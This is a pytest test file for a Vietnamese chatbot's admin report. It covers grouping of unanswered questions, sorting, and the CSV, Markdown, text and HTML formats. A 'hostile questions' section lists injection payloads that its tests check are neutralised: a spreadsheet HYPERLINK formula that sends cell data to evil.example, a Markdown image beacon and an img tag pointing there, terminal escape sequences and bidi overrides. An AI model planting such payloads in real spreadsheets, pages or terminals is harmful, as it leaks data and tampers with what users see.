"""The admins' report: grouping of unanswered questions, ordering, and the three formats."""

from __future__ import annotations

import csv
import io
import random
import re
import time
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest
from rapidfuzz import fuzz

from bot.store import report as reporting
from bot.store.database import Exchange, LoggedExchange, Store
from bot.store.report import build_report, group_questions, report_from_db
from handlers.followups import FollowupResolver
from handlers.questions import Responder

DAY1 = 1_700_000_000.0  # 2023-11-14 UTC
DAY2 = DAY1 + 86400
ACCEPT = 70.0

_ids = iter(range(1_000_000))


def row(question: str = "ai chủ trì?", *, ts: float = DAY1, intent: str | None = None, kind: str = "fallback",
        score: float = 30.0, up: int = 0, down: int = 0, candidate: str = "event_chair") -> LoggedExchange:
    """An exchange as ``Store.exchanges_since`` returns it."""
    return LoggedExchange(ts=ts, channel="telegram", chat="c0ffee", user="f00d", question=question,
                          normalized=question, intent=intent, kind=kind, score=score, language="vi",
                          elapsed_ms=3.0, candidate=intent or candidate, id=f"id{next(_ids)}", up=up, down=down)


ROWS = [
    row("ai chu tri hoi nghi 2019"),
    row("ai chu tri hoi nghi 2019", ts=DAY2),
    row("ai chủ trì hội nghị năm 2019?", ts=DAY2),
    row("Ai chủ trì hội nghị năm 2019", kind="out_of_scope"),
    row("hội nghị"),  # contained in the above, but a different question
    row("thời tiết | hôm nay?", kind="refusal", intent="refuse_weather"),
    row("", kind="empty"),
    row("hội nghị có bao nhiêu đại biểu", score=65.0, candidate="event_bridge_points"),  # near miss
    row("hoi nghi co bao nhieu dai bieu", score=62.0, ts=DAY2, candidate="event_bridge_points"),
    row("ngày họp là khi nào", score=59.9),  # just outside the window
    row(intent="chair", kind="answer", score=95.0, up=1, down=3),
    row(intent="chair", kind="answer", score=95.0, ts=DAY2, down=1),
    row(intent="date", kind="answer", score=90.0, up=5, down=2),
    row(intent="place", kind="answer", score=88.0, up=0, down=1),
    row(intent="place", kind="answer", score=88.0, ts=DAY2, up=4),
    row("/help", kind="command", score=0.0),
]


def sections(text: str) -> dict[str, list[dict[str, str]]]:
    """The CSV report's rows by section."""
    out: dict[str, list[dict[str, str]]] = {}
    for record in csv.DictReader(io.StringIO(text)):
        out.setdefault(record["section"], []).append(record)
    return out


def test_similar_unanswered_questions_are_grouped() -> None:
    groups = group_questions(["ai chu tri hoi nghi 2019", "ai chủ trì hội nghị năm 2019?", "hội nghị",
                              "AI CHU TRI HOI NGHI 2019", "", "?!"])
    assert groups == [(3, "ai chu tri hoi nghi 2019"), (1, "hội nghị")]


def test_csv_report() -> None:
    report = sections(build_report(ROWS, ACCEPT, "csv", "since yesterday"))
    summary = {r["metric"]: r["value"] for r in report["summary"]}
    assert summary == {"period": "since yesterday", "exchanges": "16", "questions": "14", "answered": "5",
                       "asked_back": "0", "refused_by_design": "2", "not_understood": "7",
                       "fallback_rate": "64.3%", "empty_messages": "1"}
    assert [(r["day"], r["questions"], r["unanswered"], r["fallback_pct"]) for r in report["volume"]] == [
        ("2023-11-14", "9", "6", "66.7"), ("2023-11-15", "5", "3", "60.0")]
    assert [(r["intent"], r["count"]) for r in report["intents"]] == [
        ("chair", "2"), ("place", "2"), ("date", "1")]  # the refusal is not among the answers
    missed = [(r["count"], r["question"], r["nearest"]) for r in report["not_understood"]]
    assert missed[:2] == [("3", "ai chu tri hoi nghi 2019", "event_chair"),
                          ("2", "hội nghị có bao nhiêu đại biểu", "event_bridge_points")]
    assert ("1", "hội nghị", "event_chair") in missed
    refused = [(r["count"], r["question"], r["refusal"]) for r in report["refused"]]
    assert sorted(refused) == [("1", "Ai chủ trì hội nghị năm 2019", "out_of_scope.yaml"),
                               ("1", "thời tiết | hôm nay?", "refuse_weather")]
    # Every question the summary counts is listed once, in its own section.
    assert sum(int(count) for count, _, _ in missed) == int(summary["not_understood"])
    assert sum(int(count) for count, _, _ in refused) == int(summary["refused_by_design"])
    assert [(r["intent"], r["down"], r["up"]) for r in report["lowest_rated"]] == [
        ("chair", "4", "1"), ("date", "2", "5"), ("place", "1", "4")]  # same balance: more 👎 first
    assert [(r["intent"], r["score"], r["count"], r["question"]) for r in report["suggested"]] == [
        ("event_bridge_points", "65.0", "2", "hội nghị có bao nhiêu đại biểu")]  # names the nearest intent


def test_follow_up_phrases_are_never_suggested_as_examples(responder: Responder) -> None:
    rows = [row("còn nhiệm vụ tiếp theo?", score=65.0, candidate="mai_task_3"),
            row("ông ấy là ai", score=66.0, candidate="person_tran_quoc_vuong"),
            row("nhiệm vụ về chuyển đổi số", score=64.0, candidate="mai_task_7")]
    followup = FollowupResolver(responder).looks_like
    report = sections(build_report(rows, ACCEPT, "csv", followup=followup))
    assert [r["question"] for r in report["suggested"]] == ["nhiệm vụ về chuyển đổi số"]
    assert len(report["not_understood"]) == 3   # still counted as not understood


def test_markdown_report() -> None:
    report = build_report(ROWS, ACCEPT, "md", "since yesterday")
    assert report.startswith("# ")
    headings = [line for line in report.splitlines() if line.startswith("## ")]
    assert len(headings) == 7
    for block in report.split("\n## ")[1:]:
        table = [line for line in block.splitlines() if line.startswith("|")]
        assert table, block
        assert len({line.replace("\\|", "").count("|") for line in table}) == 1, block
        assert set(table[1]) <= set("|-:")
    assert "thời tiết \\| hôm nay?" in report


def test_text_report_aligns_columns() -> None:
    report = build_report(ROWS, ACCEPT, "text", "since yesterday")
    lines = report.splitlines()
    start = lines.index("Lowest-rated answers")
    table = lines[start + 2:start + 6]
    assert table[1].split() == ["chair", "4", "1"]
    assert len({len(line) for line in table[1:]}) == 1  # numbers right-aligned to one width
    assert "since yesterday" in report


def test_empty_report() -> None:
    assert "(none)" in build_report([], ACCEPT, "text")
    assert "_None._" in build_report([], ACCEPT, "md")
    assert set(sections(build_report([], ACCEPT, "csv"))) == {"summary"}
    assert "None." in build_report([], ACCEPT, "html")


def test_unknown_format() -> None:
    with pytest.raises(ValueError, match="text, md, csv, html"):
        build_report(ROWS, ACCEPT, "pdf")


async def test_report_from_db(tmp_path: Path) -> None:
    path = tmp_path / "bot.db"
    store = await Store.open(path)
    now = time.time()
    base = Exchange(ts=now, channel="telegram", chat="-100777", user="555", question="ai chủ trì hội nghị?",
                    normalized="ai chu tri hoi nghi", intent=None, kind="fallback", score=20.0,
                    language="vi", elapsed_ms=2.0, candidate="event_chair")
    store.log(base)
    store.log(replace(base, question="ai chu tri hoi nghi", ts=now - 3600))
    store.log(replace(base, ts=now - 30 * 86400))  # outside the window
    answered = store.log(replace(base, intent="chair", kind="answer", score=95.0))
    assert await store.feedback(answered, -1, "555")
    await store.close()
    report = sections(await report_from_db(path, 7 * 86400, ACCEPT, "csv"))
    assert [(r["count"], r["question"]) for r in report["not_understood"]] == [("2", "ai chủ trì hội nghị?")]
    assert [(r["intent"], r["down"], r["up"]) for r in report["lowest_rated"]] == [("chair", "1", "0")]
    with pytest.raises(FileNotFoundError):
        await report_from_db(tmp_path / "missing.db", 86400, ACCEPT)


# --- hostile questions (issue 9) -------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"bấm vào đây")', "+1+1 cộng", "-2+3 trừ", "@SUM(1+1) tổng",
    "\t=1+1 tab", "\r=1+1 cr", "ai chủ\rtrì hội\nnghị", "| cột | giả | bảng",
    "![](http://evil.example/beacon.png) ảnh", "<img src=http://evil.example/x.png> thẻ",
    "\x1b[2J\x1b]0;pwned\x07 xoá màn hình", "\u202eđảo chiều", "\x9b31m csi",
]
#: What must not reach a terminal or a renderer: control characters and bidi overrides.
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_report(fmt: str) -> str:
    rows = [row(q, score=65.0, intent=None) for q in HOSTILE]  # unanswered, and near misses too
    report = build_report(rows, ACCEPT, fmt, "since yesterday")
    assert "HYPERLINK" in report and "pwned" in report  # they are shown, only neutralised
    return report


def test_csv_report_neutralises_formulas_and_line_breaks() -> None:
    report = hostile_report("csv")
    cells = [cell for record in csv.reader(io.StringIO(report)) for cell in record]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK(" in cells[-1] or any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not CONTROLS.search(report.replace("\n", ""))  # one record per line, no CR anywhere


def test_markdown_report_shows_hostile_text_as_text() -> None:
    report = hostile_report("md")
    assert not CONTROLS.search(report.replace("\n", ""))
    for block in report.split("\n## ")[1:]:
        table = [line for line in block.splitlines() if line.startswith("|")]
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) <= 1, block  # no extra columns
    assert "\\!\\[\\](http://evil.example/beacon.png)" in report  # the image is text, not fetched
    assert "\\<img src=" in report  # and so is the HTML


def test_text_report_sends_no_terminal_escapes() -> None:
    report = hostile_report("text")
    assert not CONTROLS.search(report.replace("\n", ""))
    assert "\\x1b[2J" in report  # shown, visibly


def test_grouping_compares_each_question_with_few_others(monkeypatch: pytest.MonkeyPatch) -> None:
    # A week of junk: thousands of distinct questions. Comparing each with every group is
    # quadratic (10,000 took 36 s); each must be compared with a bounded number of groups.
    calls = 0

    def counting(a: str, b: str, **kwargs: object) -> float:
        nonlocal calls
        calls += 1
        return fuzz.token_sort_ratio(a, b, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(reporting, "fuzz", SimpleNamespace(token_sort_ratio=counting))
    rng = random.Random(9)
    vocabulary = ["ai", "chủ", "trì", "hội", "nghị", "năm", "là", "gì", "bao", "nhiêu", "đại", "biểu", "nhiệm",
                  "vụ", "dân", "vận", "tỉnh", "ủy", "giá", "vàng"]
    questions = [" ".join(rng.choices(vocabulary, k=rng.randint(3, 9))) + f" {rng.randint(0, 10**6)}"
                 for _ in range(4000)]
    groups = group_questions(questions)
    assert sum(count for count, _ in groups) == len(questions)
    # At most 8 lookup keys × 50 groups each; comparing with every group took 1,160 per question here.
    assert calls <= 400 * len(questions), f"{calls} comparisons for {len(questions)} questions"


def test_grouping_still_merges_typos_and_word_order() -> None:
    groups = group_questions(["ai chủ trì hội nghị", "ai chu tri hoi ngi", "hội nghị ai chủ trì",
                              "ai chủ trì hội nghị?", "giá vàng hôm nay", "gia vang hom nay bao nhieu"])
    assert groups == [(4, "ai chủ trì hội nghị"), (2, "giá vàng hôm nay")]
